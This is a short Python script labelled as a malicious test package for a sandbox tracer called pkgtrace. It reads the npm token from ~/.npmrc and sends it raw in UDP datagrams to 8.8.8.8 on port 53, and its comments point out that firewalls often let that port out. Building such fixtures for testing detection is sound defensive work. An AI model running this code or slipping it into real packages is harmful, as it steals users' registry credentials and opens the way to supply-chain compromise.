# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only through `pkgtrace run`.
#
# Sends the npm token from ~/.npmrc, raw (not DNS-encoded), in one UDP
# datagram to the public resolver 8.8.8.8:53 (sendto), then connect()s a UDP
# socket there and sends it again. Firewalls often let port 53 out. In the
# sandbox there is no route off the machine, so every send fails.
import errno
import os
import socket

try:
    with open(os.path.expanduser("~/.npmrc"), "rb") as f:
        token = f.read()
except OSError:
    token = b"no token"


def name(e):
    return errno.errorcode.get(e.errno, str(e.errno))


s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(token, ("8.8.8.8", 53))
    print("sendto 8.8.8.8:53: ok")
except OSError as e:
    print(f"sendto 8.8.8.8:53: {name(e)}")
s.close()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.connect(("8.8.8.8", 53))
    print("connect 8.8.8.8:53: ok")
    s.send(token)
    print("send 8.8.8.8:53: ok")
except OSError as e:
    print(f"connect/send 8.8.8.8:53: {name(e)}")
s.close()
